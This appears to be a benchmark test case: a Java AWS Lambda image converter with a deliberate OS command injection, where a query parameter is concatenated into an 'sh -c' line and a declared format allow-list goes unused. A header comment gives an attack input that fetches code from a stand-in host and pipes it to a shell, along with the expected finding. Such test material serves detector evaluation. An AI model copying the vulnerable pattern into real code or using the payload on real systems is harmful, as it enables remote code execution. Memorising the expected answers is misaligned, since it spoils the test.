// weakness: CWE-78 OS command injection
// features: async, lambda, constant key
// attack: a query parameter format=png;curl evil.example|sh is part of the shell line
// expect: 23 CWE-78
package functions;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyResponseEvent;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Set;
import java.util.concurrent.CompletableFuture;

public class ConvertHandler implements RequestHandler<APIGatewayProxyRequestEvent, APIGatewayProxyResponseEvent> {

    private static final Set<String> FORMATS = Set.of("png", "jpg", "webp");

    private Process convert(String format) {
        String line = "cd /tmp && convert page.pdf page." + format + " && rm page.pdf";
        try {
            return Runtime.getRuntime().exec(new String[] {"sh", "-c", line});
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Override
    public APIGatewayProxyResponseEvent handleRequest(APIGatewayProxyRequestEvent event, Context context) {
        String format = event.getQueryStringParameters().get("format");
        if (format == null || format.isEmpty()) {
            return new APIGatewayProxyResponseEvent().withStatusCode(400);
        }
        int code = CompletableFuture.supplyAsync(() -> convert(format))
                .thenCompose(Process::onExit)
                .thenApply(Process::exitValue)
                .join();
        return new APIGatewayProxyResponseEvent().withStatusCode(code == 0 ? 200 : 422);
    }
}
